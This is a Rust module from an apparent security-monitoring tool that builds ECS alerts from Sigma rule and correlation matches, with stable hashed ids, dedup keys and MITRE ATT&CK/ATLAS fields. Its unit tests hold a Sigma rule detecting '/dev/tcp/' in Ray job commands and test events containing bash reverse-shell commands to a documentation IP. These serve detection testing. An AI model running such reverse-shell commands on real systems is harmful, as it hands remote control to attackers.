//! Alerts: the ECS documents a rule or correlation match produces.
//!
//! An alert is an ECS event with `event.kind: alert`; `rule.*` names the
//! rule (`rule.uuid` and `rule.id` its Sigma id, `rule.name` its title,
//! `rule.level` its level, `rule.ruleset: sigma`); `threat.*` comes from
//! its ATT&CK and ATLAS tags; `event.severity` maps the level (21, 47, 73,
//! 99 for low to critical, as Elastic's rules do); the matched events are
//! kept whole under `mlsoc.alert.events`.
//!
//! `event.id` is a stable alert id: the same rule on the same event always
//! gives the same id (a hash of the rule id, the event's `event.original`
//! or JSON text, and its time, or for a record without a time of its own,
//! its `log.file.path` and `log.offset`), so a re-run over the same logs
//! does not duplicate alerts downstream. `mlsoc.alert.dedup_key` groups alerts that
//! describe the same activity: the rule and the values of the key fields
//! (source, user, host, ML object) or, for a correlation, its group.

use schema::{Event, FieldId, Str, Timestamp, Value, f};
use sha2::{Digest, Sha256};

use crate::correlation::{Correlation, Match};
use crate::rule::{Level, Rule};

/// Fields whose values make up the dedup key of a single-event alert.
pub const KEY_FIELDS: &[&str] = &[
    "source.ip",
    "user.name",
    "host.name",
    "mlops.component",
    "mlops.model.name",
    "mlops.experiment.id",
    "mlops.run.id",
    "mlops.job.id",
    "orchestrator.namespace",
    "cloud.account.id",
];

fn severity(level: Option<Level>) -> i64 {
    match level {
        Some(Level::Critical) => 99,
        Some(Level::High) => 73,
        Some(Level::Medium) => 47,
        Some(Level::Low) => 21,
        Some(Level::Informational) | None => 1,
    }
}

fn hex16(h: Sha256) -> String {
    h.finalize()[..16]
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

struct Meta<'a> {
    id: Option<&'a str>,
    title: &'a str,
    description: Option<&'a str>,
    level: Option<Level>,
    tags: &'a [String],
    references: &'a [String],
}

fn base(m: &Meta<'_>, ts: Timestamp) -> Event {
    let mut a = Event::new();
    a.set(f::AT_TIMESTAMP, ts);
    a.set(f::EVENT_KIND, "alert");
    a.set(f::EVENT_SEVERITY, severity(m.level));
    if let Some(id) = m.id {
        a.set(f::RULE_ID, Str::from(id));
        a.set(f::RULE_UUID, Str::from(id));
    }
    a.set(f::RULE_NAME, Str::from(m.title));
    a.set(f::RULE_RULESET, "sigma");
    if let Some(d) = m.description {
        a.set(f::RULE_DESCRIPTION, Str::from(d.trim()));
    }
    if let Some(r) = m.references.first() {
        a.set(f::RULE_REFERENCE, Str::from(r.as_str()));
    }
    if let Some(l) = m.level
        && let Some(id) = FieldId::lookup("rule.level")
    {
        a.set(id, l.as_str());
    }
    threat(&mut a, m.tags);
    if !m.tags.is_empty() {
        a.set(
            f::TAGS,
            Value::Array(m.tags.iter().map(|t| Value::from(t.clone())).collect()),
        );
    }
    a
}

/// `threat.*` from Sigma tags: `attack.t1190` and `atlas.aml.t0024` are
/// technique ids, `attack.initial-access` a tactic name.
fn threat(a: &mut Event, tags: &[String]) {
    let mut techniques = Vec::new();
    let mut tactics = Vec::new();
    let mut attack = false;
    let mut atlas = false;
    for t in tags {
        let t = t.to_ascii_lowercase();
        if let Some(rest) = t.strip_prefix("attack.") {
            attack = true;
            if rest.len() >= 5
                && rest.starts_with('t')
                && rest[1..5].bytes().all(|b| b.is_ascii_digit())
            {
                techniques.push(Value::from(rest.to_ascii_uppercase()));
            } else if !rest.starts_with('g') && !rest.starts_with('s') || rest.contains('-') {
                tactics.push(Value::from(rest.replace('-', " ")));
            }
        } else if let Some(rest) = t.strip_prefix("atlas.") {
            atlas = true;
            techniques.push(Value::from(rest.to_ascii_uppercase()));
        }
    }
    if attack || atlas {
        let framework = match (attack, atlas) {
            (true, false) => "MITRE ATT&CK",
            (false, true) => "MITRE ATLAS",
            _ => "MITRE ATT&CK, MITRE ATLAS",
        };
        a.set(f::THREAT_FRAMEWORK, framework);
    }
    if !techniques.is_empty() {
        a.set(f::THREAT_TECHNIQUE_ID, Value::Array(techniques));
    }
    if !tactics.is_empty() {
        a.set(f::THREAT_TACTIC_NAME, Value::Array(tactics));
    }
}

fn event_text(ev: &Event) -> String {
    match ev.original() {
        Some(o) => o.to_string(),
        None => ev.to_json_string(),
    }
}

fn dedup_field(a: &mut Event, key: String) {
    if let Some(id) = FieldId::lookup("mlsoc.alert.dedup_key") {
        a.set(id, Str::from(key));
    }
}

fn events_value(evs: &[&Event]) -> Value {
    // The events are kept as their JSON text (written back as it is, parsed
    // only if a path inside is asked for): an alert storm must not parse
    // every matched event back into a tree.
    static NO_PATHS: std::sync::LazyLock<std::sync::Arc<schema::rawjson::Asked>> =
        std::sync::LazyLock::new(Default::default);
    Value::Array(
        evs.iter()
            .map(|e| {
                let text = Str::from(e.to_json_string());
                Value::Json(std::sync::Arc::new(schema::rawjson::RawJson::new(
                    text,
                    NO_PATHS.clone(),
                    Vec::new(),
                )))
            })
            .collect(),
    )
}

/// The alert of a detection rule matching `ev`.
pub fn rule_alert(rule: &Rule, ev: &Event) -> Event {
    let ts = ev.timestamp().unwrap_or(Timestamp(0));
    let m = Meta {
        id: rule.id.as_deref(),
        title: &rule.title,
        description: rule.description.as_deref(),
        level: rule.level,
        tags: &rule.tags,
        references: &rule.references,
    };
    let mut a = base(&m, ts);
    let rule_key = rule.id.as_deref().unwrap_or(&rule.title);
    let mut h = Sha256::new();
    h.update(rule_key.as_bytes());
    h.update([0]);
    h.update(event_text(ev).as_bytes());
    if ev.timestamp_inferred() {
        // The time is the previous record's or the reading time, which a
        // re-run (or a restart from a checkpoint) does not repeat; where
        // the record was read does repeat.
        h.update([1]);
        if let Some(p) = ev.get_str(f::LOG_FILE_PATH) {
            h.update(p.as_bytes());
        }
        h.update([0]);
        h.update(ev.get_i64(f::LOG_OFFSET).unwrap_or(-1).to_le_bytes());
    } else {
        h.update(ts.0.to_le_bytes());
    }
    a.set(f::EVENT_ID, Str::from(hex16(h)));
    let mut k = Sha256::new();
    k.update(rule_key.as_bytes());
    for field in KEY_FIELDS {
        k.update([0]);
        if let Some(v) = ev.get(field).and_then(Value::to_text) {
            k.update(v.as_bytes());
        }
    }
    dedup_field(&mut a, hex16(k));
    copy_context(&mut a, ev);
    a.insert("mlsoc.alert.events", events_value(&[ev]));
    a
}

/// The alert of a correlation match; `last` is the event that completed it.
pub fn correlation_alert(c: &Correlation, m: &Match, last: &Event) -> Event {
    let meta = Meta {
        id: c.id.as_deref(),
        title: &c.title,
        description: c.description.as_deref(),
        level: c.level,
        tags: &c.tags,
        references: &c.references,
    };
    let mut a = base(&meta, Timestamp(m.ts));
    let key = c.id.as_deref().unwrap_or(&c.title);
    let mut h = Sha256::new();
    h.update(key.as_bytes());
    for (k, v) in &m.group {
        h.update([0]);
        h.update(k.as_bytes());
        h.update([1]);
        h.update(v.as_bytes());
    }
    let mut d = h.clone();
    h.update(m.ts.to_le_bytes());
    for l in &m.lines {
        h.update(l.to_le_bytes());
    }
    a.set(f::EVENT_ID, Str::from(hex16(h)));
    d.update(b"correlation");
    dedup_field(&mut a, hex16(d));
    if let Some(id) = FieldId::lookup("mlsoc.alert.correlation") {
        a.set(id, c.kind.as_str());
    }
    for (k, v) in &m.group {
        if let Some(id) = FieldId::lookup(k) {
            a.set(id, Str::from(v.as_str()));
        }
    }
    copy_context(&mut a, last);
    a.insert("mlsoc.alert.events", events_value(&[last]));
    a
}

/// Copies the context fields of the matched event an analyst reads first.
fn copy_context(a: &mut Event, ev: &Event) {
    for name in [
        "source.ip",
        "user.name",
        "host.name",
        "event.dataset",
        "mlops.component",
        "mlops.api",
        "mlops.model.name",
        "mlops.run.id",
        "mlops.job.id",
        "url.original",
        "process.command_line",
    ] {
        if let Some(id) = FieldId::lookup(name)
            && a.get_id(id).is_none()
            && let Some(v) = ev.get_id(id)
        {
            a.set(id, v.clone());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::modifiers::Placeholders;

    fn rule() -> Rule {
        let doc: serde_norway::Value = serde_norway::from_str(
            r#"
title: Ray job with a reverse shell
id: 3d3c1f2e-0000-4000-8000-000000000001
description: A job entrypoint opens /dev/tcp
references: [https://nvd.nist.gov/vuln/detail/CVE-2023-48022]
tags: [attack.execution, attack.t1059.004, atlas.aml.t0011]
logsource: {product: ray}
detection: {s: {process.command_line|contains: /dev/tcp/}, condition: s}
level: critical
"#,
        )
        .unwrap();
        crate::rule::rule_from_yaml(&doc, &Placeholders::new()).unwrap()
    }

    fn ev(cmd: &str, ip: &str) -> Event {
        Event::from_json(&Str::from(format!(
            r#"{{"@timestamp":"2026-11-30T10:00:00Z","event":{{"original":"{cmd}"}},"process":{{"command_line":"{cmd}"}},"source":{{"ip":"{ip}"}}}}"#
        )))
        .unwrap()
    }

    #[test]
    fn rule_alert_is_ecs_with_stable_ids() {
        let r = rule();
        let e = ev("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "10.0.0.1");
        let a = rule_alert(&r, &e);
        let get = |p: &str| a.get(p).and_then(Value::to_text).map(|c| c.into_owned());
        assert_eq!(get("event.kind").as_deref(), Some("alert"));
        assert_eq!(
            get("rule.name").as_deref(),
            Some("Ray job with a reverse shell")
        );
        assert_eq!(
            get("rule.uuid").as_deref(),
            Some("3d3c1f2e-0000-4000-8000-000000000001")
        );
        assert_eq!(get("rule.level").as_deref(), Some("critical"));
        assert_eq!(a.get_i64(f::EVENT_SEVERITY), Some(99));
        assert_eq!(get("source.ip").as_deref(), Some("10.0.0.1"));
        let techniques = a.get("threat.technique.id").unwrap().as_array().unwrap();
        let t: Vec<_> = techniques.iter().filter_map(Value::as_str).collect();
        assert_eq!(t, ["T1059.004", "AML.T0011"]);
        assert_eq!(
            get("threat.framework").as_deref(),
            Some("MITRE ATT&CK, MITRE ATLAS")
        );
        // Same input, same ids; another event, another id but the same
        // dedup key when the key fields agree.
        let again = rule_alert(&r, &e);
        assert_eq!(again.get_str(f::EVENT_ID), a.get_str(f::EVENT_ID));
        let other = rule_alert(&r, &ev("sh -c 'cat < /dev/tcp/x/1'", "10.0.0.1"));
        assert_ne!(other.get_str(f::EVENT_ID), a.get_str(f::EVENT_ID));
        assert_eq!(
            get("mlsoc.alert.dedup_key"),
            other
                .get("mlsoc.alert.dedup_key")
                .and_then(Value::to_text)
                .map(|c| c.into_owned())
        );
        let third = rule_alert(&r, &ev("sh -c 'cat < /dev/tcp/x/1'", "10.0.0.2"));
        assert_ne!(
            get("mlsoc.alert.dedup_key"),
            third
                .get("mlsoc.alert.dedup_key")
                .and_then(Value::to_text)
                .map(|c| c.into_owned())
        );
        let json = a.to_json_string();
        assert!(json.contains(r#""events":[{"#), "{json}");
    }

    /// A shell history line has no time: `@timestamp` is when it was read,
    /// and a second run reads it at another time. Its alert keeps its id;
    /// the same line at another offset is another alert.
    #[test]
    fn alert_id_of_a_record_without_time_depends_on_where_it_was_read() {
        let r = rule();
        let read = |at: &str, offset: i64| {
            Event::from_json(&Str::from(format!(
                r#"{{"@timestamp":"{at}","tags":["timestamp_inferred"],"event":{{"original":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}},"log":{{"file":{{"path":"/home/u/.bash_history"}},"offset":{offset}}}}}"#
            )))
            .unwrap()
        };
        let first = rule_alert(&r, &read("2026-11-30T10:00:00Z", 120));
        let rerun = rule_alert(&r, &read("2026-12-01T08:30:00Z", 120));
        let elsewhere = rule_alert(&r, &read("2026-11-30T10:00:00Z", 480));
        assert_eq!(first.get_str(f::EVENT_ID), rerun.get_str(f::EVENT_ID));
        assert_ne!(first.get_str(f::EVENT_ID), elsewhere.get_str(f::EVENT_ID));
        assert!(first.get_str(f::EVENT_ID).is_some());
        // With its own time, the time still counts.
        let timed = |at: &str| {
            let mut e = read(at, 120);
            e.remove_id(f::TAGS);
            rule_alert(&r, &e)
        };
        assert_ne!(
            timed("2026-11-30T10:00:00Z").get_str(f::EVENT_ID),
            timed("2026-12-01T08:30:00Z").get_str(f::EVENT_ID)
        );
    }
}
